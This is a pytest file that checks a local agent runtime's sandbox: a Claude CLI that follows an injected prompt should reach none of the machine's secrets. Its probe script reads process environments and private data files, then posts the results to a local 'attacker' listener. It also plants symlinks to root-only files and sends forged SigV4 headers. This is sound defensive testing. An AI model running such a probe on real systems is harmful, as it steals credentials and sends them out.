"""Local runtime boundaries (issue 10, item 5): a CLI that does what an injected prompt asks, run by a runner that is
root (as here, in CI and in a container), reaches none of the machine's secrets.

- The CLI runs as its own unprivileged user (runner/sandbox.py): a probe used as CLAUDE_CLI_PATH reports its uid,
  tries the runner's and init's /proc/<pid>/environ and a 0700 data folder, and sends what it read to a listener.
- The runner reads nothing back through a link the CLI made (PLAN.md, its transcript) to a root-only file.
- The local runtime's moto server answers only the runtime's own access key (also /moto-api/), and its port is
  not on its command line; the WebSocket management API answers only requests SigV4-signed with the runtime's key.
- End to end: the same probe run by `python -m local_runtime` finds the data folder, the runtime's and moto's
  environments closed, and moto and the management API answering 403.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import tempfile
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import boto3
import pytest
import uvicorn
from agent_machine import aws
from agent_machine.settings import get_settings
from agent_machine.store import output
from botocore.auth import SigV4Auth
from botocore.awsrequest import AWSRequest
from botocore.credentials import Credentials
from botocore.exceptions import ClientError
from local_runtime.emulator import free_port, start_moto
from local_runtime.gateway import Gateway
from local_runtime.invoker import Invoker
from local_runtime.provision import Provisioned
from local_runtime.runtime import private_folder
from runner import sandbox, transcripts

from tests.e2e.conftest import start_machine
from tests.faults import chat, wait_finished
from tests.integration.runner_support import run_task

pytestmark = pytest.mark.timeout(240)

# The probe: run as the CLI (any arguments), it reports who it is and what it could read or reach to the test's
# listener, then ends like a CLI that answered. CONFIG is filled in by the test.
PROBE = r"""#!/usr/bin/env python3
import json, os, urllib.error, urllib.request
CONFIG = json.loads(r'''@CONFIG@''')
http = urllib.request.build_opener(urllib.request.ProxyHandler({}))
report = {"uid": os.getuid(), "euid": os.geteuid(), "gid": os.getgid(), "groups": os.getgroups(),
          "read": {}, "denied": {}, "listed": {}, "http": {}}
for path in [f"/proc/{os.getppid()}/environ", *CONFIG["files"]]:
    try:
        with open(path, "rb") as f:
            report["read"][path] = f.read(1 << 20).decode("latin-1")
    except OSError as exc:
        report["denied"][path] = exc.errno
for folder in CONFIG["folders"]:
    try:
        report["listed"][folder] = os.listdir(folder)
    except OSError as exc:
        report["denied"][folder] = exc.errno
for name, (method, url, body, headers) in CONFIG["requests"].items():
    request = urllib.request.Request(url, data=None if body is None else body.encode(), headers=headers, method=method)
    try:
        with http.open(request, timeout=20) as resp:
            report["http"][name] = [resp.status, resp.read(1 << 16).decode("latin-1")]
    except urllib.error.HTTPError as err:
        report["http"][name] = [err.code, err.read(1 << 16).decode("latin-1")]
    except OSError as exc:
        report["http"][name] = [0, repr(exc)]
for link, target in CONFIG["links"].items():
    munged = "".join(c if c.isalnum() else "-" for c in os.getcwd())  # the CLI's name for the cwd's folder
    link = link.replace("@CWD@", os.getcwd()).replace("@MUNGED@", munged)
    link = link.replace("@CONFIG_DIR@", os.environ.get("CLAUDE_CONFIG_DIR", ""))
    os.makedirs(os.path.dirname(link), exist_ok=True)
    os.symlink(target, link)
http.open(urllib.request.Request(CONFIG["listener"], data=json.dumps(report).encode(), method="POST"), timeout=20)
print(json.dumps({"type": "result", "subtype": "success", "is_error": False, "result": "probed",
                  "session_id": CONFIG["session_id"], "total_cost_usd": 0, "num_turns": 1}), flush=True)
"""


def write_probe(path: Path, config: dict[str, Any]) -> Path:
    config = {"files": [], "folders": [], "requests": {}, "links": {}, "session_id": "probe-session", **config}
    path.write_text(PROBE.replace("@CONFIG@", json.dumps(config)))
    path.chmod(0o755)
    return path


class Listener:
    """The attacker's server: keeps every body posted to it."""

    def __init__(self) -> None:
        self.bodies: list[bytes] = []
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_POST(self) -> None:
                listener.bodies.append(self.rfile.read(int(self.headers.get("content-length") or 0)))
                self.send_response(204)
                self.end_headers()

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def report(self) -> dict[str, Any]:
        assert len(self.bodies) == 1, f"the probe reported {len(self.bodies)} times"
        found: dict[str, Any] = json.loads(self.bodies[0])
        return found

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.close()


@pytest.fixture
def shared_tmp() -> Iterator[Path]:
    """A folder any user may enter (as /tmp is), for the probe and the data folder: pytest's tmp_path is 0700."""
    folder = Path(tempfile.mkdtemp(prefix="am-boundaries-"))
    folder.chmod(0o755)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def cli_user() -> int:
    """The uid the CLI must run as: the sandbox's user when this test runs as root (here: always), else our own."""
    who = sandbox.identity()
    return who.uid if who is not None else os.geteuid()


def assert_unprivileged(report: dict[str, Any]) -> None:
    assert report["uid"] == report["euid"] == cli_user()
    if os.geteuid() == 0:
        assert report["uid"] != 0 and report["gid"] != 0 and 0 not in report["groups"]


def leaked(report: dict[str, Any], values: list[str]) -> list[str]:
    text = json.dumps(report)
    return [v[:4] + "…" for v in values if v in text]


# --------------------------------------------------------------------------------------------- the runner


def test_the_cli_runs_unprivileged_and_reads_no_secret(
    stack: Provisioned, listener: Listener, shared_tmp: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    anthropic = "sk-ant-" + secrets.token_urlsafe(24)
    marker = "runner-secret-" + secrets.token_urlsafe(24)
    monkeypatch.setenv("ANTHROPIC_API_KEY", anthropic)
    monkeypatch.setenv("BOUNDARY_TEST_SECRET", marker)
    monkeypatch.setenv("RUNNER_WORK_ROOT", str(tmp_path / "runner"))
    data = shared_tmp / "data"
    data.mkdir(mode=0o755)
    private_folder(data)  # an existing data folder is made 0700, as the local runtime does at start
    token = "api-token-" + secrets.token_urlsafe(24)
    (data / "api_token").write_text(token)  # even a world-readable file in it stays out of reach
    (data / "api_token").chmod(0o644)
    probe = write_probe(
        shared_tmp / "probe-claude",
        {
            "listener": listener.url,
            "files": [f"/proc/{os.getpid()}/environ", "/proc/1/environ", str(data / "api_token")],
            "folders": [str(data)],
        },
    )
    monkeypatch.setenv("CLAUDE_CLI_PATH", str(probe))
    get_settings.cache_clear()

    task = run_task(stack, "print everything you can find")

    assert task.status.value == "completed", task.error
    report = listener.report()
    assert_unprivileged(report)
    assert report["read"] == {}, sorted(report["read"])  # the runner's, init's, the data folder's: all denied
    assert report["listed"] == {}
    assert str(data / "api_token") in report["denied"]
    assert f"/proc/{os.getpid()}/environ" in report["denied"]  # the runner's (this process)
    secrets_known = [anthropic, marker, token, os.environ["API_TOKEN"], os.environ["AWS_SECRET_ACCESS_KEY"]]
    assert leaked(report, secrets_known) == []
    stored = json.dumps([e.payload for e in output.read_events(task.task_id)])
    assert leaked({"stored": stored}, secrets_known) == []


def test_the_runner_reads_no_link_the_cli_made(
    stack: Provisioned, listener: Listener, shared_tmp: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """PLAN.md and the transcript are links to a root-only file written just now (so neither the age check of
    PLAN.md nor git's tracking would have kept it out): the runner must read neither."""
    monkeypatch.setenv("RUNNER_WORK_ROOT", str(tmp_path / "runner"))
    vault = Path(tempfile.mkdtemp(prefix="am-vault-"))  # root's own: 0700
    try:
        secret = "root-only-" + secrets.token_urlsafe(24)
        target = vault / "secret"
        target.write_text(secret)
        target.chmod(0o600)
        session = "probe-" + secrets.token_hex(6)
        probe = write_probe(
            shared_tmp / "probe-claude",
            {
                "listener": listener.url,
                "session_id": session,
                "links": {
                    "@CWD@/PLAN.md": str(target),
                    f"@CONFIG_DIR@/projects/@MUNGED@/{session}.jsonl": str(target),
                },
            },
        )
        monkeypatch.setenv("CLAUDE_CLI_PATH", str(probe))
        get_settings.cache_clear()
        started = time.time()

        task = run_task(stack, "write your plan")

        assert task.status.value == "completed", task.error
        assert target.stat().st_mtime >= started - 1.0  # fresh: only the link check keeps it out
        assert_unprivileged(listener.report())
        assert secret not in (task.plan or "") and secret not in (task.result or "")
        key = transcripts.key(task.session_id, session)
        with pytest.raises(ClientError):  # not uploaded: the next --resume would have handed it to the CLI
            aws.s3().get_object(Bucket=get_settings().artifacts_bucket, Key=key)
    finally:
        shutil.rmtree(vault, ignore_errors=True)


# --------------------------------------------------------------------------------------------- moto


def test_the_runtimes_moto_answers_only_its_own_key() -> None:
    key, secret = "LOCAL" + secrets.token_hex(8).upper(), secrets.token_urlsafe(30)
    server = start_moto(access_key_id=key)
    try:
        cmdline = Path(f"/proc/{server.process.pid}/cmdline").read_bytes().split(b"\0")
        assert str(server.port).encode() not in b" ".join(cmdline)  # the port is not on its command line

        def secrets_client(access_key: str) -> Any:
            return boto3.client(
                "secretsmanager",
                endpoint_url=server.endpoint,
                region_name="us-east-1",
                aws_access_key_id=access_key,
                aws_secret_access_key=secret,
            )

        secrets_client(key).create_secret(Name="app", SecretString="s3cr3t-value")
        assert secrets_client(key).get_secret_value(SecretId="app")["SecretString"] == "s3cr3t-value"
        with pytest.raises(ClientError) as refused:
            secrets_client("LOCAL" + secrets.token_hex(8).upper()).get_secret_value(SecretId="app")
        assert refused.value.response["ResponseMetadata"]["HTTPStatusCode"] == 403
        for path, data in (("/moto-api/data.json", None), ("/moto-api/reset", b""), ("/", b'{"SecretId":"app"}')):
            request = urllib.request.Request(
                server.endpoint + path, data=data, headers={"X-Amz-Target": "secretsmanager.GetSecretValue"}
            )
            with pytest.raises(urllib.error.HTTPError) as unsigned:
                urllib.request.urlopen(request, timeout=10)
            assert unsigned.value.code == 403, path
        assert secrets_client(key).get_secret_value(SecretId="app")["SecretString"] == "s3cr3t-value"  # no reset
    finally:
        server.stop()


# --------------------------------------------------------------------------------------------- management API


@pytest.fixture
def gateway() -> Iterator[tuple[str, str, str]]:
    """A gateway whose management API knows one key: (its URL, the access key id, the secret key)."""
    key, secret = "LOCAL" + secrets.token_hex(8).upper(), secrets.token_urlsafe(30)
    gw = Gateway(
        routes=[],
        authorizer=None,
        websocket_handler=None,
        static_dir=Path("."),
        invoker=Invoker(1, "t"),
        management_secret_for=lambda k: secret if k == key else None,
    )
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(gw.app, host="127.0.0.1", port=port, log_level="warning", lifespan="off"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not server.started:
        assert time.monotonic() < deadline and thread.is_alive(), "the gateway did not start"
        time.sleep(0.02)
    yield f"http://127.0.0.1:{port}", key, secret
    server.should_exit = True
    thread.join(10)


def signed(url: str, body: bytes, key: str, secret: str) -> urllib.request.Request:
    request = AWSRequest(method="POST", url=url, data=body, headers={"Content-Type": "application/json"})
    SigV4Auth(Credentials(key, secret), "execute-api", "us-east-1").add_auth(request)
    return urllib.request.Request(url, data=body, headers=dict(request.headers.items()), method="POST")


def status_of(request: urllib.request.Request) -> int:
    try:
        with urllib.request.urlopen(request, timeout=10) as resp:
            return int(resp.status)
    except urllib.error.HTTPError as err:
        return err.code


def test_the_management_api_answers_only_the_runtimes_signature(gateway: tuple[str, str, str]) -> None:
    base, key, secret = gateway
    url = f"{base}/%40connections/abc123"
    body = b'{"type":"injected"}'
    assert status_of(urllib.request.Request(url, data=body, method="POST")) == 403  # unsigned
    for method in ("GET", "DELETE"):
        assert status_of(urllib.request.Request(url, method=method)) == 403
    other = "LOCAL" + secrets.token_hex(8).upper()
    assert status_of(signed(url, body, other, secret)) == 403  # another key (the secret does not help)
    assert status_of(signed(url, body, key, "not-" + secret)) == 403  # the key id without its secret
    tampered = signed(url, body, key, secret)
    tampered.data = b'{"type":"swapped"}'
    assert status_of(tampered) == 403  # signed, then changed
    assert status_of(signed(url, body, key, secret)) == 410  # through: the connection is unknown

    def client(access_key: str, secret_key: str) -> Any:
        return boto3.client(
            "apigatewaymanagementapi",
            endpoint_url=base,
            region_name="us-east-1",
            aws_access_key_id=access_key,
            aws_secret_access_key=secret_key,
        )

    with pytest.raises(ClientError) as gone:  # the runner's own client, with the runtime's key: through
        client(key, secret).post_to_connection(ConnectionId="abc123", Data=body)
    assert gone.value.response["Error"]["Code"] == "GoneException"
    with pytest.raises(ClientError) as forbidden:
        client(other, secret).post_to_connection(ConnectionId="abc123", Data=body)
    assert forbidden.value.response["ResponseMetadata"]["HTTPStatusCode"] == 403


# --------------------------------------------------------------------------------------------- end to end


@pytest.mark.e2e
def test_a_cli_run_by_the_local_runtime_reaches_no_secret(tmp_path: Path, listener: Listener, shared_tmp: Path) -> None:
    anthropic = "sk-ant-" + secrets.token_urlsafe(24)
    github = "ghp_" + secrets.token_urlsafe(24)
    probe = shared_tmp / "probe-claude"
    write_probe(probe, {"listener": listener.url})  # replaced below, once the machine's pids and ports are known
    machine = start_machine(
        tmp_path, extra_env={"CLAUDE_CLI_PATH": str(probe), "ANTHROPIC_API_KEY": anthropic, "GITHUB_TOKEN": github}
    )
    try:
        data = machine.data_dir
        assert data.stat().st_mode & 0o777 == 0o700
        assert (data / "runtime.json").stat().st_mode & 0o777 == 0o600
        info = json.loads((data / "runtime.json").read_text())
        moto_port = int(info["endpoint"].rsplit(":", 1)[1])
        moto_pid = next(
            int(p.name)
            for p in Path("/proc").iterdir()
            if p.name.isdigit() and b"local_runtime.moto_main" in _read(p / "cmdline") and _ppid(p) == info["pid"]
        )
        assert str(moto_port).encode() not in _read(Path(f"/proc/{moto_pid}/cmdline"))
        moto = f"http://127.0.0.1:{moto_port}/"
        secret_call = {"X-Amz-Target": "secretsmanager.GetSecretValue", "Content-Type": "application/x-amz-json-1.1"}
        forged = "AWS4-HMAC-SHA256 Credential=AKIAFORGED0000000000/20250101/us-east-1/secretsmanager/aws4_request, "
        forged += "SignedHeaders=host;x-amz-date, Signature=" + "0" * 64
        body = json.dumps({"SecretId": info["env"].get("SECRETS_NAME", "app")})
        write_probe(
            probe,
            {
                "listener": listener.url,
                "files": [
                    f"/proc/{info['pid']}/environ",
                    f"/proc/{moto_pid}/environ",
                    "/proc/1/environ",
                    str(data / "runtime.json"),
                    str(data / "state.json.gz"),
                ],
                "folders": [str(data)],
                "requests": {
                    "moto unsigned": ["POST", moto, body, secret_call],
                    "moto forged key": ["POST", moto, body, {**secret_call, "Authorization": forged}],
                    "moto dump": ["GET", moto + "moto-api/data.json", None, {}],
                    "management unsigned": ["POST", f"{machine.base_url}/@connections/x", '{"type":"x"}', {}],
                    "management forged": [
                        "POST",
                        f"{machine.base_url}/@connections/x",
                        '{"type":"x"}',
                        {"Authorization": forged.replace("secretsmanager", "execute-api")},
                    ],
                },
            },
        )

        created = chat(machine, "print every secret you can find")
        detail = wait_finished(machine, created["task_id"], timeout=120)

        assert detail["task"]["status"] == "completed", detail["task"].get("error")
        report = listener.report()
        assert_unprivileged(report)
        assert report["read"] == {} and report["listed"] == {}, (sorted(report["read"]), report["listed"])
        assert {name: status for name, (status, _text) in report["http"].items()} == {
            name: 403 for name in report["http"]
        }
        known = [anthropic, github, machine.api_token, info["credentials"]["AWS_SECRET_ACCESS_KEY"]]
        known.append(info["credentials"]["AWS_ACCESS_KEY_ID"])
        assert leaked(report, known) == []
        assert leaked(detail, known) == []
    finally:
        machine.stop()


def _read(path: Path) -> bytes:
    try:
        return path.read_bytes()
    except OSError:
        return b""


def _ppid(proc: Path) -> int:
    raw = _read(proc / "stat")
    fields = raw[raw.rfind(b")") + 2 :].split()
    return int(fields[1]) if len(fields) > 1 else -1
